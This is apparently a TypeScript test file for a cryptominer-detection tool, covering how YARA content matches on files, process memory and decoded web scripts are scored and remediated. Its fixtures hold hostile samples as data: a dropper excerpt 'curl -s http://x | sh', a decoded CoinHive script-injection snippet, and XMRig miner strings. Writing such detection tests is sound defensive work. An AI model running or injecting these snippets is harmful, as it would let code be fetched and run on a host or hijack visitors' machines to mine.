// Tests for content-match: clean files and executables without matches never hit; a matched file
// is a finding whose kind and level come from the rule's meta; a match on a running program's
// executable or memory lands on that process and merges with the process detectors; memory matches
// of text rules (what an admin's shell holds) do not count; without a content section, skipped. A
// match in decoded web content shows its chain and decoded excerpt; a decoding bomb alone is low.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import type { Content, ContentMatch } from '../../snapshot/schema.js';
import { runDetectors } from '../run.js';
import {
  cleanHostProcesses,
  makeProcess,
  makeSnapshot,
  makeContent,
} from '../../../test/helpers/snapshot-builders.js';
import { minerProcessName } from './miner-process-name.js';
import { contentMatch } from './content-match.js';

const ruleset = await loadRuleset([defaultIocDir()]);

const content = makeContent;

const XMRIG: ContentMatch = {
  rule: 'MH_XMRig_Miner',
  namespace: 'miners-cpu',
  meta: { description: 'XMRig miner binary', kind: 'open-source-miner', level: 'critical' },
  strings: [{ identifier: '$a', offset: 4096, excerpt: 'XMRig/%s' }],
  stringCount: 3,
};
const DROPPER: ContentMatch = {
  rule: 'MH_Dropper_Download_And_Run',
  namespace: 'droppers-linux',
  meta: { description: 'download and run', kind: 'fileless', level: 'high' },
  strings: [{ identifier: '$c', offset: 12, excerpt: 'curl -s http://x | sh' }],
  stringCount: 1,
};

describe('content-match', () => {
  it('clean: executables listed for their hashes, without matches, give nothing', () => {
    const snap = makeSnapshot({
      processes: cleanHostProcesses(),
      content: content({
        files: [
          { path: '/usr/local/bin/tool', size: 10, sha256: 'a'.repeat(64), executable: true, matches: [] },
        ],
      }),
    });
    expect(runDetectors(snap, ruleset, [contentMatch])).toEqual({ findings: [], skipped: [] });
  });

  it('findings: a matched file takes kind and level from the rule meta and is quarantined', () => {
    const snap = makeSnapshot({
      processes: cleanHostProcesses(),
      content: content({
        files: [{ path: '/tmp/.x/cron.sh', size: 80, sha256: 'b'.repeat(64), matches: [DROPPER] }],
      }),
    });
    const { findings } = runDetectors(snap, ruleset, [contentMatch]);
    expect(findings).toHaveLength(1);
    const [f] = findings;
    expect(FindingSchema.parse(f)).toEqual(f);
    expect(f).toMatchObject({
      ruleId: 'content-match',
      kind: 'fileless',
      level: 'high',
      messageId: 'file',
      data: {
        path: '/tmp/.x/cron.sh',
        sha256: 'b'.repeat(64),
        rules: 'droppers-linux.MH_Dropper_Download_And_Run',
        matches: 1,
        strongestRule: 'droppers-linux.MH_Dropper_Download_And_Run',
      },
      remediate: [{ type: 'quarantine-file', path: '/tmp/.x/cron.sh' }],
    });
    expect(f?.message.en).toBe(
      '/tmp/.x/cron.sh matches YARA rule droppers-linux.MH_Dropper_Download_And_Run',
    );
    expect(f?.evidence).toEqual([
      { type: 'file', path: '/tmp/.x/cron.sh', sha256: 'b'.repeat(64) },
      {
        type: 'match',
        field: 'yara file: droppers-linux.MH_Dropper_Download_And_Run',
        value: '$c@12 "curl -s http://x | sh"',
        ioc: 'download and run',
      },
    ]);
  });

  it('findings: an archive entry quarantines the archive; a rule without meta is medium', () => {
    const userRule: ContentMatch = {
      rule: 'Mine',
      namespace: 'user.local',
      meta: {},
      strings: [],
      stringCount: 0,
    };
    const snap = makeSnapshot({
      content: content({
        files: [{ path: '/srv/up.zip!a/b.sh', size: 5, sha256: 'c'.repeat(64), matches: [userRule] }],
      }),
    });
    const [f] = runDetectors(snap, ruleset, [contentMatch]).findings;
    expect(f?.level).toBe('medium');
    expect(f?.kind).toBeUndefined();
    expect(f?.remediate).toEqual([{ type: 'quarantine-file', path: '/srv/up.zip' }]);
    expect(f).toMatchObject({
      messageId: 'file',
      data: { path: '/srv/up.zip!a/b.sh', rules: 'user.local.Mine' },
    });
  });

  it("findings: a running program's executable and memory correlate with the process detectors", () => {
    const miner = makeProcess({ pid: 4242, exe: '/tmp/.x/xmrig', argv: ['/tmp/.x/xmrig'] });
    const snap = makeSnapshot({
      processes: [...cleanHostProcesses(), miner],
      content: content({
        files: [
          { path: '/tmp/.x/xmrig', size: 9, sha256: 'd'.repeat(64), executable: true, matches: [XMRIG] },
        ],
        memory: [{ pid: 4242, exe: '/tmp/.x/xmrig', regions: 3, bytes: 4096, matches: [XMRIG] }],
      }),
    });
    const { findings } = runDetectors(snap, ruleset, [minerProcessName, contentMatch]);
    expect(findings).toHaveLength(1);
    const [f] = findings;
    expect(f?.kind).toBe('open-source-miner');
    expect(f?.level).toBe('critical');
    expect(f?.signals.map((s) => s.ruleId).sort()).toEqual([
      'content-match',
      'content-match',
      'miner-process-name',
    ]);
    expect(f?.evidence).toContainEqual({ type: 'file', path: '/tmp/.x/xmrig', sha256: 'd'.repeat(64) });
    expect(f?.evidence).toContainEqual(
      expect.objectContaining({
        field: 'yara memory: miners-cpu.MH_XMRig_Miner',
        value: '$a@0x1000 "XMRig/%s"',
      }),
    );
    expect(f?.remediate).toContainEqual({ type: 'kill-process-tree', pid: 4242, exe: '/tmp/.x/xmrig' });
    // The executable's match and the memory match each keep their own message and facts.
    const facts = Object.fromEntries(
      (f?.signals ?? []).filter((s) => s.ruleId === 'content-match').map((s) => [s.messageId, s.data]),
    );
    expect(facts).toMatchObject({
      runsFile: {
        pid: 4242,
        path: '/tmp/.x/xmrig',
        sha256: 'd'.repeat(64),
        rules: 'miners-cpu.MH_XMRig_Miner',
      },
      memory: { pid: 4242, exe: '/tmp/.x/xmrig', rules: 'miners-cpu.MH_XMRig_Miner', matches: 1 },
    });
  });

  it("clean: dropper text in an admin shell's memory does not count, a miner program's strings do", () => {
    const bash = makeProcess({ pid: 900, exe: '/usr/bin/bash', argv: ['-bash'] });
    const snap = makeSnapshot({
      processes: [bash],
      content: content({
        memory: [{ pid: 900, exe: '/usr/bin/bash', regions: 2, bytes: 100, matches: [DROPPER] }],
      }),
    });
    expect(runDetectors(snap, ruleset, [contentMatch]).findings).toEqual([]);
  });

  it('skipped: without a content section (--no-content) the detector is skipped, not clean', () => {
    expect(runDetectors(makeSnapshot({ processes: cleanHostProcesses() }), ruleset, [contentMatch])).toEqual({
      findings: [],
      skipped: [{ ruleId: 'content-match', missing: ['content'] }],
    });
  });
});

describe('content-match in the memory of text holders', () => {
  it("findings: a miner program's strings in an interactive shell's memory are low, not critical", () => {
    const bash = makeProcess({ pid: 901, exe: '/usr/bin/bash', argv: ['-bash'] });
    const snap = makeSnapshot({
      processes: [bash],
      content: content({
        memory: [{ pid: 901, exe: '/usr/bin/bash', regions: 2, bytes: 100, matches: [XMRIG] }],
      }),
    });
    const [f] = runDetectors(snap, ruleset, [contentMatch]).findings;
    expect(f).toMatchObject({
      level: 'low',
      kind: 'open-source-miner',
      messageId: 'memory',
      data: { pid: 901, exe: '/usr/bin/bash', strongestRule: 'miners-cpu.MH_XMRig_Miner' },
    });
  });
});

describe('content-match: a match weighs what it is found in', () => {
  const CONFIG: ContentMatch = {
    rule: 'MH_Config_XMRig_JSON',
    namespace: 'configs',
    meta: { description: 'XMRig config', kind: 'open-source-miner', level: 'high' },
    strings: [{ identifier: '$a', offset: 10, excerpt: '"donate-level"' }],
    stringCount: 4,
  };
  const one = (file: Content['files'][number]) => {
    const snap = makeSnapshot({ processes: cleanHostProcesses(), content: content({ files: [file] }) });
    const { findings } = runDetectors(snap, ruleset, [contentMatch]);
    expect(findings).toHaveLength(1);
    return findings[0]!;
  };

  it('findings: an ELF with the miner strings keeps the rule level, is an executable and is quarantined', () => {
    const f = one({
      path: '/opt/x/xmrig',
      size: 9,
      sha256: 'c'.repeat(64),
      form: 'elf',
      executable: true,
      matches: [XMRIG],
    });
    expect(f).toMatchObject({ level: 'critical', basis: 'executable', kind: 'open-source-miner' });
    expect(f.remediate).toEqual([{ type: 'quarantine-file', path: '/opt/x/xmrig' }]);
  });

  it('clean: the same strings in a README are a mention: low, no kind, nothing to remove', () => {
    const f = one({
      path: '/root/src/notes/README.md',
      size: 9,
      sha256: 'c'.repeat(64),
      form: 'text',
      matches: [XMRIG],
    });
    expect(f).toMatchObject({ level: 'low', basis: 'mention', remediate: [] });
    expect(f.kind).toBeUndefined();
    expect(f).toMatchObject({
      messageId: 'fileWeighed',
      data: { path: '/root/src/notes/README.md', reason: { en: expect.stringMatching(/mentions miners/) } },
    });
  });

  it('findings: a miner config keeps its level; the same rule in a log is low', () => {
    expect(
      one({ path: '/tmp/.x/config.json', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [CONFIG] }),
    ).toMatchObject({
      level: 'high',
      basis: 'config',
      kind: 'open-source-miner',
    });
    expect(
      one({ path: '/var/log/install.log', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [CONFIG] }),
    ).toMatchObject({
      level: 'low',
      basis: 'mention',
    });
  });

  it('findings: a dropper script in /tmp counts as a program; in a home checkout without exec bit it is medium', () => {
    expect(
      one({ path: '/tmp/x.sh', size: 9, sha256: 'c'.repeat(64), form: 'script', matches: [DROPPER] }),
    ).toMatchObject({
      level: 'high',
      basis: 'executable',
    });
    expect(
      one({
        path: '/root/work/tools/install.sh',
        size: 9,
        sha256: 'c'.repeat(64),
        form: 'script',
        matches: [DROPPER],
      }),
    ).toMatchObject({
      level: 'medium',
      basis: 'config',
    });
  });

  it('findings: a config-like file is as strong as its configuration rules, not the program names it quotes', () => {
    expect(
      one({
        path: '/root/case/old-report.json',
        size: 9,
        sha256: 'c'.repeat(64),
        form: 'text',
        matches: [XMRIG, CONFIG],
      }),
    ).toMatchObject({ level: 'high', basis: 'config' });
  });

  it('clean: source code named after pools is source code, not a pool list', () => {
    expect(
      one({
        path: '/root/src/app/pool-connection.ts',
        size: 9,
        sha256: 'c'.repeat(64),
        form: 'text',
        matches: [CONFIG],
      }),
    ).toMatchObject({ level: 'low', basis: 'mention' });
    expect(
      one({ path: '/tmp/.x/pools.txt', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [CONFIG] }),
    ).toMatchObject({ level: 'high', basis: 'config' });
  });

  it('findings: interpreter source is a program in /tmp, source code in a checkout', () => {
    expect(
      one({ path: '/tmp/m.py', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [DROPPER] }),
    ).toMatchObject({
      level: 'high',
      basis: 'executable',
    });
    expect(
      one({ path: '/root/src/tool/m.py', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [DROPPER] }),
    ).toMatchObject({ level: 'low', basis: 'mention' });
  });

  it('findings: text in an autostart place keeps the rule level', () => {
    expect(
      one({ path: '/etc/cron.d/sync', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [DROPPER] }),
    ).toMatchObject({
      level: 'high',
      basis: 'autostart',
    });
  });

  it('clean: YARA rules, Sigma rules and indicator lists are security material: info, never acted on', () => {
    for (const form of ['yara-rules', 'sigma-rules', 'indicator-list'] as const) {
      const f = one({
        path: `/root/rules/miners.${form}`,
        size: 9,
        sha256: 'c'.repeat(64),
        form,
        matches: [XMRIG, DROPPER],
      });
      expect(f).toMatchObject({ level: 'info', remediate: [] });
      expect(f.kind).toBeUndefined();
    }
  });

  it('findings: a rule file that is an ELF is judged as the program it is', () => {
    expect(
      one({
        path: '/root/rules/miners.yar',
        size: 9,
        sha256: 'c'.repeat(64),
        form: 'elf',
        executable: true,
        matches: [XMRIG],
      }),
    ).toMatchObject({ level: 'critical', basis: 'executable' });
  });

  it('clean: a file minehunter wrote (registered path and hash) is info, no kind, no action', () => {
    const f = one({
      path: '/root/case/report.json',
      size: 9,
      sha256: 'c'.repeat(64),
      form: 'text',
      ownOutput: { writtenAt: '2026-12-01T10:00:00.000Z', what: 'scan report (json)' },
      matches: [CONFIG, XMRIG],
    });
    expect(f).toMatchObject({ level: 'info', basis: 'own-output', remediate: [] });
    expect(f.kind).toBeUndefined();
    expect(f).toMatchObject({
      messageId: 'fileWeighed',
      data: {
        path: '/root/case/report.json',
        matches: 2,
        reason: {
          en: expect.stringContaining(
            'minehunter output (scan report (json)), written 2026-12-01T10:00:00.000Z',
          ),
        },
      },
    });
  });

  it('findings: the same file without a registry record is judged on its content (a config stays high)', () => {
    expect(
      one({
        path: '/root/case/report.json',
        size: 9,
        sha256: 'c'.repeat(64),
        form: 'text',
        matches: [CONFIG],
      }),
    ).toMatchObject({ level: 'high', basis: 'config' });
  });

  it('clean: /etc/hosts is left to hosts-tampering when the hosts file was read', () => {
    const snap = makeSnapshot({
      processes: cleanHostProcesses(),
      hostsFile: [{ address: '0.0.0.0', names: ['pool.supportxmr.com'] }],
      content: content({
        files: [{ path: '/etc/hosts', size: 9, sha256: 'c'.repeat(64), form: 'text', matches: [CONFIG] }],
      }),
    });
    expect(runDetectors(snap, ruleset, [contentMatch]).findings).toEqual([]);
  });
});

describe('content-match on decoded web content', () => {
  const COINHIVE: ContentMatch = {
    rule: 'MH_Web_CoinHive',
    namespace: 'web-miners',
    meta: { description: 'CoinHive browser miner', kind: 'web-script', level: 'critical' },
    strings: [{ identifier: '$api', offset: 61, excerpt: 'CoinHive.Anonymous' }],
    stringCount: 2,
    decoded: {
      chain: ['js-string-array', 'atob'],
      excerpt: 'var s=document.createElement("script");s.src="https://coinhive.com/lib/coinhive.min.js";',
    },
  };
  const findings = (files: Content['files']) =>
    runDetectors(makeSnapshot({ processes: cleanHostProcesses(), content: content({ files }) }), ruleset, [
      contentMatch,
    ]).findings;

  it('findings: a match in a decoded layer names the chain and shows the decoded excerpt, kind web-script', () => {
    const [f, ...rest] = findings([
      {
        path: '/var/www/html/js/main.js',
        size: 90_000,
        sha256: 'e'.repeat(64),
        form: 'text',
        matches: [COINHIVE],
      },
    ]);
    expect(rest).toEqual([]);
    expect(FindingSchema.parse(f)).toEqual(f);
    expect(f).toMatchObject({ kind: 'web-script', level: 'critical', basis: 'executable' });
    expect(f?.evidence).toContainEqual({
      type: 'match',
      field: 'yara file (decoded: js-string-array > atob): web-miners.MH_Web_CoinHive',
      value: COINHIVE.decoded?.excerpt,
      ioc: 'CoinHive browser miner',
    });
    expect(f?.remediate).toEqual([{ type: 'quarantine-file', path: '/var/www/html/js/main.js' }]);
  });

  it('findings: a web file whose decoding met a bomb, without a match, is low with no kind and nothing to remove', () => {
    const bomb = 'php:gzinflate: output exceeds the 1048576-byte budget left, not followed';
    const [f, ...rest] = findings([
      {
        path: '/var/www/html/wp-content/themes/t/footer.php',
        size: 4000,
        sha256: 'f'.repeat(64),
        web: { bombs: [bomb], stopped: 'output budget of 1048576 bytes spent' },
        matches: [],
      },
    ]);
    expect(rest).toEqual([]);
    expect(FindingSchema.parse(f)).toEqual(f);
    expect(f).toMatchObject({
      level: 'low',
      messageId: 'webBomb',
      data: { path: '/var/www/html/wp-content/themes/t/footer.php', bombs: 1 },
      remediate: [],
    });
    expect(f?.kind).toBeUndefined();
    expect(f?.message.en).toContain('refused as a bomb');
    expect(f?.evidence).toEqual([
      { type: 'file', path: '/var/www/html/wp-content/themes/t/footer.php', sha256: 'f'.repeat(64) },
      { type: 'match', field: 'decoding refused', value: bomb },
      { type: 'match', field: 'decoding stopped', value: 'output budget of 1048576 bytes spent' },
    ]);
  });

  it('clean: a web file whose decoding only ran out of budget gives nothing; a matched one says so', () => {
    const stopped = { stopped: 'time budget of 2000 ms spent' };
    expect(
      findings([
        { path: '/var/www/html/big.js', size: 9, sha256: 'a'.repeat(64), web: stopped, matches: [] },
      ]),
    ).toEqual([]);
    const [f] = findings([
      {
        path: '/var/www/html/big.js',
        size: 9,
        sha256: 'a'.repeat(64),
        form: 'text',
        web: stopped,
        matches: [COINHIVE],
      },
    ]);
    expect(f?.evidence).toContainEqual({
      type: 'match',
      field: 'decoding stopped',
      value: 'time budget of 2000 ms spent',
    });
  });
});
